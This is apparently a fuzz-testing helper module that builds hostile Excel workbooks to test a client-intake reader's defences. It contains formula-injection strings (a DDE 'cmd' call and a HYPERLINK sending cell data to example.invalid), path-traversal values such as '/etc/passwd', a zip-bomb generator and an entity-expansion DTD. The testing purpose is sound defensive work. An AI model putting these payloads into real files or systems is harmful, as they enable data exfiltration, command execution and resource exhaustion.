"""Hostile workbooks: how they are made, run through the reader and judged.

Used by ``tests/test_workbook_limits.py``, ``tests/test_intake_fuzz.py`` (a few hundred cases in CI) and
``bench/fuzz_intake.py`` (thousands, by hand). A case starts from a demo client's workbook and applies:

- cell edits (values of every kind, formulas and formula-injection texts) and sheet edits (renamed,
  deleted and extra sheets) through openpyxl;
- merges, hyperlink ranges and extra rows (near the row limit and far past it) written into the sheet
  XML, as a hostile file would carry them — openpyxl itself would take minutes to write a merge over a
  million cells;
- zip damage: truncated, bytes flipped, members removed or duplicated, a DTD, a member that unpacks
  to hundreds of megabytes;
- evidence paths typed into 佐证材料 (full-width slashes, ``..``, absolute paths, a home folder, a
  drive letter) with symlinks, a hard link and a loop made in the client's evidence folder.

``run_case`` reads the result with ``check_workbook`` and ``read_client``, writes the annotated copy,
and returns an ``Outcome``: an exception other than ``ToolkitError``, a changed input byte, a cell
problem that does not name its cell, a live formula in the copy, an accepted evidence file outside the
client folder.
"""

from __future__ import annotations

import datetime as dt
import io
import os
import re
import shutil
import tempfile
import time
import traceback
import zipfile
from dataclasses import dataclass, field
from pathlib import Path

from hypothesis import strategies as st

from toolkit.core import xlsx_safe
from xlsx_scan import live_formulas, unquoted_risky_text

ROOT = Path(__file__).resolve().parents[1]
CLIENTS = ROOT / "data" / "examples" / "clients"
DEMO = CLIENTS / "qingchuan"
SHEETS = ["填写说明", "基本信息", "年度指标", "企业名单", "平台机构", "负面清单", "发展规划", "佐证材料", "_lists"]
TABLES = ["企业名单", "平台机构", "发展规划", "佐证材料"]
CELL_RE = re.compile(r"^[A-Z]{1,3}[1-9]\d{0,6}$")

INJECTION = ['=HYPERLINK("http://example.invalid/?x="&A1,"点击")', "=cmd|' /C calc'!A0", "+1+2", "-2+3",
             "@SUM(1,2)", "\t=1+1", "\r=1+1", "=1/0", "=D8+E8", "=SUM(D2:F2)", "=", "=A1"]
VALUES = st.one_of(
    st.none(),
    st.text(max_size=30),
    st.integers(min_value=-10**20, max_value=10**20),
    st.floats(allow_nan=False, allow_infinity=False),
    st.booleans(),
    st.dates(min_value=dt.date(1900, 3, 1), max_value=dt.date(2100, 1, 1)),
    st.datetimes(min_value=dt.datetime(1900, 3, 1), max_value=dt.datetime(2100, 1, 1)),
    st.sampled_from(["约12亿", "５２.３", "5000万", "1,234", "N/A", "无", "-", "26.4%", "是", "否", "示例：x",
                     "#REF!", "../../x", "/etc/passwd", "9" * 400, "１e5", "2025年", "复核", "新申报", "浙江",
                     "cluster_output", "\u3000", "evidence/统计局产值证明.pdf", "{{ x }}", "{% if %}"] + INJECTION),
    st.text(alphabet="=+-*/()0123456789ABCDEF:!$亿万元%", min_size=1, max_size=12).map(lambda s: "=" + s),
)

# Typed into 佐证材料 › 文件名. ``link``, ``hard``, ``loop``, ``dirlink`` are made in evidence/ (see ``_evidence_tree``).
EVIDENCE_PATHS = [
    "evidence/统计局产值证明.pdf", "ｅｖｉｄｅｎｃｅ／统计局产值证明.pdf", "evidence\\统计局产值证明.pdf",
    "／etc／passwd", "．．／．．／outside／secret.txt", "../outside/secret.txt", "../../outside/secret.txt",
    "/etc/passwd", "evidence/../../outside/secret.txt", "evidence\\..\\..\\outside\\secret.txt", "~/secret.txt",
    "C:\\Windows\\win.ini", "evidence/link", "evidence／link", "evidence/hard", "evidence/loop",
    "evidence/dirlink/secret.txt", "evidence", "evidence/", "evidence/sub/../统计局产值证明.pdf",
    "evidence/" + "证" * 90 + ".pdf", "file:///etc/passwd", "evidence/%2e%2e/secret.txt", "．．/outside/secret.txt",
    "evidence/．．/．．/outside/secret.txt", "\\\\server\\share\\x.pdf",
]


# -- XML-level edits --------------------------------------------------------------------------------

def members_by_title(data: bytes) -> dict[str, str]:
    with zipfile.ZipFile(io.BytesIO(data)) as zf:
        return {t: m for m, t in xlsx_safe.sheet_parts(zf).items()}


def rewrite(data: bytes, changes: dict[str, object], *, drop: set[str] = frozenset(),
            add: dict[str, bytes] | None = None) -> bytes:
    """``data`` with members replaced (bytes, or a function of the old bytes), dropped or added."""
    zin = zipfile.ZipFile(io.BytesIO(data))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as z:
        for i in zin.infolist():
            if i.filename in drop:
                continue
            b = zin.read(i.filename)
            new = changes.get(i.filename)
            if new is not None:
                b = new(b) if callable(new) else new
            z.writestr(i.filename, b)
        for name, b in (add or {}).items():
            z.writestr(name, b)
    return out.getvalue()


def rewrite_sheet(data: bytes, title: str, fn) -> bytes:
    return rewrite(data, {members_by_title(data)[title]: fn})


def with_merges(refs: list[str]):
    def fn(b: bytes) -> bytes:
        cells = "".join(f'<mergeCell ref="{r}"/>' for r in refs)
        if b"</mergeCells>" in b:
            return b.replace(b"</mergeCells>", cells.encode() + b"</mergeCells>", 1)
        return b.replace(b"</sheetData>", f'</sheetData><mergeCells count="{len(refs)}">{cells}</mergeCells>'.encode(), 1)
    return fn


def with_links(refs: list[str]):
    def fn(b: bytes) -> bytes:
        links = "".join(f'<hyperlink ref="{r}" location="\'基本信息\'!A1"/>' for r in refs)
        anchor = b"<pageMargins" if b"<pageMargins" in b else b"</worksheet>"
        return b.replace(anchor, f"<hyperlinks>{links}</hyperlinks>".encode() + anchor, 1)
    return fn


def _esc(text: str) -> str:
    return text.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;")


def with_rows(start: int, count: int, cols: str = "A", text: str = "企业{r}", styled_only: bool = False):
    """``count`` rows from row ``start``, each with a text in ``cols`` (or only a style, no value)."""
    def fn(b: bytes) -> bytes:
        parts = []
        for r in range(start, start + count):
            if styled_only:
                cells = "".join(f'<c r="{c}{r}" s="1"/>' for c in cols)
            else:
                t = _esc(text.format(r=r))
                cells = "".join(f'<c r="{c}{r}" t="inlineStr"><is><t>{t}</t></is></c>' for c in cols)
            parts.append(f'<row r="{r}">{cells}</row>')
        body = "".join(parts).encode()
        if b"</sheetData>" in b:
            return b.replace(b"</sheetData>", body + b"</sheetData>", 1)
        return b.replace(b"<sheetData/>", b"<sheetData>" + body + b"</sheetData>", 1)
    return fn


def with_dimension(ref: str):
    def fn(b: bytes) -> bytes:
        return re.sub(rb'<dimension ref="[^"]*"\s*/>', f'<dimension ref="{ref}"/>'.encode(), b, count=1)
    return fn


_BOMB: tuple[bytes, zipfile.ZipInfo] | None = None


def _bomb() -> tuple[bytes, zipfile.ZipInfo]:
    """A member of 250 MB of zeros as raw zip bytes (a quarter of a megabyte), made once per process."""
    global _BOMB
    if _BOMB is None:
        buf = io.BytesIO()
        with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as z, z.open("xl/media/image1.png", "w") as fh:
            chunk = b"\0" * (1 << 20)
            for _ in range(250):
                fh.write(chunk)
        data = buf.getvalue()
        with zipfile.ZipFile(io.BytesIO(data)) as z:
            info = z.infolist()[0]
            end = z.start_dir
        _BOMB = data[info.header_offset:end], info
    return _BOMB


def add_bomb(data: bytes) -> bytes:
    """``data`` with the 250 MB member appended, its compressed bytes copied as they are."""
    import copy

    raw, info = _bomb()
    zin = zipfile.ZipFile(io.BytesIO(data))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as z:
        for i in zin.infolist():
            z.writestr(i.filename, zin.read(i.filename))
        info = copy.copy(info)
        info.header_offset = z.fp.tell()
        z.fp.write(raw)
        z.filelist.append(info)
        z.NameToInfo[info.filename] = info
        z.start_dir = z.fp.tell()
    return out.getvalue()


DTD = (b'<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;&lol;">]>'
       b'<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><si><t>&lol2;</t></si></sst>')


# -- a case ----------------------------------------------------------------------------------------

@dataclass
class Case:
    client: str = "qingchuan"
    edits: list = field(default_factory=list)        # (sheet, row, col, value)
    sheet_ops: list = field(default_factory=list)    # ("rename", sheet, new) | ("delete", sheet) | ("add", title)
    merges: list = field(default_factory=list)       # (sheet, ref)
    links: list = field(default_factory=list)        # (sheet, ref)
    rows: list = field(default_factory=list)         # (sheet, start, count, cols, text)
    damage: list = field(default_factory=list)       # ("truncate", frac) | ("flip", pos, byte) | ("drop", i) | ...
    evidence: list = field(default_factory=list)     # (row, typed path)
    evidence_dir_link: bool = False                  # evidence/ itself a symlink to a folder outside


def _ref(r: int, c: int, h: int, w: int) -> str:
    from openpyxl.utils import get_column_letter

    return f"{get_column_letter(c)}{r}:{get_column_letter(min(c + w - 1, 16384))}{min(r + h - 1, 1048576)}"


_small = st.tuples(st.integers(1, 3), st.integers(1, 3))
_huge = st.sampled_from([(10000, 100), (9999, 702), (1048576, 1), (1, 16384), (30000, 800), (1048576, 16384)])
_any = st.tuples(st.integers(1, 30000), st.integers(1, 800))  # includes ranges just under the budget: slow to load


def _merges(sizes):
    return st.builds(lambda s, r, c, hw: (s, _ref(r, c, *hw)), st.sampled_from(SHEETS), st.integers(1, 60),
                     st.integers(1, 15), sizes)
_start = st.one_of(st.integers(3, 80), st.integers(4995, 5005), st.integers(19_995, 20_010), st.integers(20_000, 1_048_000))
_rows = st.tuples(st.sampled_from(SHEETS), _start, st.integers(1, 12), st.sampled_from(["A", "AB", "ABC", "K", "ABCDEFGHIJ"]),
                  st.sampled_from(["企业{r}", "=1+{r}", "-{r}", "{r}", " "]))
_sheet_op = st.one_of(
    st.tuples(st.just("rename"), st.sampled_from(SHEETS),
              st.sampled_from(["企业名单 ", "企业名单（新）", "Sheet1", "ｅｖｉｄｅｎｃｅ", "基本信息2", "平台 机构", "问题清单"])),
    st.tuples(st.just("delete"), st.sampled_from(SHEETS)),
    st.tuples(st.just("add"), st.sampled_from(["Sheet1", "问题清单", "企业名单(2)", "=1+1"])),
)
_damage = st.one_of(
    st.tuples(st.just("truncate"), st.floats(0.0, 0.999)),
    st.tuples(st.just("flip"), st.floats(0.0, 0.999), st.integers(1, 255)),
    st.tuples(st.just("drop"), st.integers(0, 40)),
    st.tuples(st.just("dup"), st.integers(0, 40)),
    st.tuples(st.just("dtd"),),
    st.tuples(st.just("bomb"),),
)


def cases(*, damage: bool = True, evidence: bool = True, bombs: bool = True, any_size: bool = False):
    """Whole-workbook cases. ``damage``/``evidence`` add those kinds; ``bombs`` allows the 250 MB member;
    ``any_size`` draws merges of every size, including those just under the memory budget, which load
    (slowly) rather than being refused — the bench does, CI keeps to small and clearly oversized ones."""
    dmg = _damage if bombs else _damage.filter(lambda d: d[0] != "bomb")
    sizes = st.one_of(_small, _huge, _any) if any_size else st.one_of(_small, _huge)
    edit = st.tuples(st.sampled_from(SHEETS), st.integers(1, 40), st.integers(1, 12), VALUES)
    return st.builds(
        Case,
        client=st.sampled_from(["qingchuan", "linquan", "minshan", "dongtang"]),
        edits=st.lists(edit, max_size=8),
        sheet_ops=st.lists(_sheet_op, max_size=2),
        merges=st.lists(_merges(sizes), max_size=3),
        links=st.lists(_merges(sizes), max_size=1),
        rows=st.lists(_rows, max_size=2),
        damage=st.lists(dmg, max_size=2) if damage else st.just([]),
        evidence=st.lists(st.tuples(st.integers(3, 12), st.sampled_from(EVIDENCE_PATHS)), max_size=3)
        if evidence else st.just([]),
        evidence_dir_link=st.booleans() if evidence else st.just(False),
    )


def evidence_cases():
    """Only evidence paths, on an otherwise valid workbook (so that a client is produced and can be judged)."""
    return st.builds(Case, evidence=st.lists(st.tuples(st.integers(3, 12), st.sampled_from(EVIDENCE_PATHS)),
                                             min_size=1, max_size=4),
                     evidence_dir_link=st.booleans())


def build(case: Case) -> bytes:
    """The workbook bytes of ``case``."""
    data = (CLIENTS / case.client / "intake.xlsx").read_bytes()
    if case.edits or case.sheet_ops or case.evidence:
        data = _openpyxl_edits(data, case)
    titles = members_by_title(data) if (case.merges or case.links or case.rows) else {}
    changes: dict[str, list] = {}
    for sheet, ref in case.merges:
        if sheet in titles:
            changes.setdefault(titles[sheet], []).append(with_merges([ref]))
    for sheet, ref in case.links:
        if sheet in titles:
            changes.setdefault(titles[sheet], []).append(with_links([ref]))
    for sheet, start, count, cols, text in case.rows:
        if sheet in titles:
            changes.setdefault(titles[sheet], []).append(with_rows(start, count, cols, text))
    if changes:
        def chain(fns):
            def fn(b):
                for f in fns:
                    b = f(b)
                return b
            return fn
        data = rewrite(data, {m: chain(fns) for m, fns in changes.items()})
    for d in case.damage:
        data = _damage_bytes(data, d)
    return data


def _openpyxl_edits(data: bytes, case: Case) -> bytes:
    import openpyxl
    from openpyxl.utils.exceptions import IllegalCharacterError

    wb = openpyxl.load_workbook(io.BytesIO(data))
    for sheet, row, col, value in case.edits:
        if sheet not in wb.sheetnames:
            continue
        cell = wb[sheet].cell(row, col)
        if type(cell).__name__ == "MergedCell":
            continue
        try:
            cell.value = value
        except (IllegalCharacterError, ValueError):
            continue  # openpyxl itself refuses to store it; Excel could not hold it either
    for row, path in case.evidence:
        if "佐证材料" in wb.sheetnames:
            ws = wb["佐证材料"]
            if not ws.cell(row, 1).value:
                ws.cell(row, 1).value = f"材料{row}"
                ws.cell(row, 3).value = "产值等统计数据证明"
            ws.cell(row, 2).value = path
    for op in case.sheet_ops:
        if op[0] == "rename" and op[1] in wb.sheetnames and op[2] not in wb.sheetnames:
            wb[op[1]].title = op[2]
        elif op[0] == "delete" and op[1] in wb.sheetnames and len(wb.sheetnames) > 1:
            del wb[op[1]]
        elif op[0] == "add" and op[1] not in wb.sheetnames:
            wb.create_sheet(op[1]).cell(1, 1).value = "额外"
    buf = io.BytesIO()
    wb.save(buf)
    return buf.getvalue()


def _damage_bytes(data: bytes, d: tuple) -> bytes:
    kind = d[0]
    if kind == "truncate":
        return data[: int(len(data) * d[1])]
    if kind == "flip":
        b = bytearray(data)
        if b:
            i = int(len(b) * d[1])
            b[i] ^= d[2]
        return bytes(b)
    try:
        return _restructure(data, d)
    except Exception:  # already damaged past rewriting: it stays as it is
        return data


def _restructure(data: bytes, d: tuple) -> bytes:
    kind = d[0]
    names = zipfile.ZipFile(io.BytesIO(data)).namelist()
    if not names:
        return data
    if kind == "drop":
        return rewrite(data, {}, drop={names[d[1] % len(names)]})
    if kind == "dup":
        name = names[d[1] % len(names)]
        return rewrite(data, {}, add={name: zipfile.ZipFile(io.BytesIO(data)).read(name)})
    if kind == "dtd":
        target = "xl/sharedStrings.xml" if "xl/sharedStrings.xml" in names else "xl/workbook.xml"
        return rewrite(data, {target: DTD})
    if kind == "bomb":
        return add_bomb(data)
    return data


# -- running and judging ---------------------------------------------------------------------------

@dataclass
class Outcome:
    uncaught: list[str] = field(default_factory=list)      # exceptions other than ToolkitError
    changed: list[str] = field(default_factory=list)       # input files whose bytes changed
    unnamed: list[str] = field(default_factory=list)       # cell problems without a valid cell
    formulas: list = field(default_factory=list)           # live formulas / unquoted risky text in the copy
    escaped: list[str] = field(default_factory=list)       # accepted evidence files outside the client folder
    refused: bool = False                                   # refused before loading (too large)
    seconds: float = 0.0

    @property
    def ok(self) -> bool:
        return not (self.uncaught or self.changed or self.unnamed or self.formulas or self.escaped)


def _evidence_tree(folder: Path, outside: Path, dir_link: bool) -> None:
    outside.mkdir(parents=True, exist_ok=True)
    secret = outside / "secret.txt"
    secret.write_text("secret", encoding="utf-8")
    ev = folder / "evidence"
    if dir_link:
        real = outside / "evidence-real"
        if ev.exists():
            shutil.copytree(ev, real, dirs_exist_ok=True)
            shutil.rmtree(ev)
        real.mkdir(exist_ok=True)
        shutil.copy(secret, real / "secret.txt")
        ev.symlink_to(real, target_is_directory=True)
        return
    ev.mkdir(exist_ok=True)
    (ev / "link").symlink_to(secret)
    (ev / "loop").symlink_to(ev / "loop")
    (ev / "dirlink").symlink_to(outside, target_is_directory=True)
    try:
        os.link(secret, ev / "hard")
    except OSError:
        pass


def _snapshot(folder: Path) -> dict[str, bytes]:
    out = {}
    for p in folder.rglob("*"):
        if p.is_symlink() or not p.is_file():
            continue
        out[str(p.relative_to(folder))] = p.read_bytes()
    return out


def _outside_ids(outside: Path) -> set[tuple[int, int]]:
    ids = set()
    for p in outside.rglob("*"):
        if p.is_file() and not p.is_symlink():
            st_ = p.stat()
            ids.add((st_.st_dev, st_.st_ino))
    return ids


def judge_problems(problems) -> list[str]:
    bad = []
    for p in problems:
        if p.cell is not None and not CELL_RE.match(str(p.cell)):
            bad.append(f"{p.sheet}!{p.cell}: cell is not a cell reference ({p.message})")
        elif p.value is not None and p.cell is None and p.sheet is not None:
            bad.append(f"{p.sheet}: a problem about the value {p.value!r} names no cell ({p.message})")
        elif p.cell is not None and p.sheet is None:
            bad.append(f"{p.cell}: a cell without its sheet ({p.message})")
    return bad


def run_case(case: Case, tmp: Path | None = None, *, annotate: bool = True) -> Outcome:
    """Build ``case`` in a fresh client folder, read it every way a consultant would, judge the result."""
    from toolkit.core.errors import ToolkitError
    from toolkit.intake.reader import check_workbook, read_client, write_annotated

    own_tmp = tmp is None
    tmp = Path(tempfile.mkdtemp(prefix="fuzz-")) if own_tmp else Path(tmp)
    out = Outcome()
    t0 = time.perf_counter()
    try:
        data = build(case)
        folder = tmp / "client"
        shutil.copytree(CLIENTS / case.client, folder)
        (folder / "intake.xlsx").write_bytes(data)
        outside = tmp / "outside"
        _evidence_tree(folder, outside, case.evidence_dir_link)
        before = _snapshot(folder)
        before_outside = _snapshot(outside)
        result = None
        try:
            result = check_workbook(folder)
        except Exception:
            out.uncaught.append("check_workbook: " + traceback.format_exc(limit=-3))
        client = None
        try:
            client = read_client(folder)
        except ToolkitError:
            pass
        except Exception:
            out.uncaught.append("read_client: " + traceback.format_exc(limit=-3))
        if result is not None:
            out.unnamed = judge_problems(result.problems)
            out.refused = any("未读取" in p.message for p in result.problems)
            if annotate and result.readable:
                copy = tmp / "annotated" / "intake.checked.xlsx"
                try:
                    write_annotated(result, copy)
                except ToolkitError:
                    pass
                except Exception:
                    out.uncaught.append("write_annotated: " + traceback.format_exc(limit=-3))
                else:
                    out.formulas = live_formulas(copy) + unquoted_risky_text(copy)
        if client is not None:
            root = os.path.realpath(folder)
            secret_ids = _outside_ids(outside)
            for item in client.evidence:
                if not item.exists or not item.file:
                    continue
                p = folder / item.file
                real = os.path.realpath(p)
                try:
                    st_ = os.stat(p)
                    same = (st_.st_dev, st_.st_ino) in secret_ids
                except OSError:
                    same = False
                if not (real == root or real.startswith(root + os.sep)) or same:
                    out.escaped.append(f"{item.source.cell if item.source else '?'}: {item.file!r} → {real}")
        if _snapshot(folder) != before:
            out.changed.append(str(folder))
        if _snapshot(outside) != before_outside:
            out.changed.append(str(outside))
    finally:
        out.seconds = time.perf_counter() - t0
        if own_tmp:
            shutil.rmtree(tmp, ignore_errors=True)
    return out
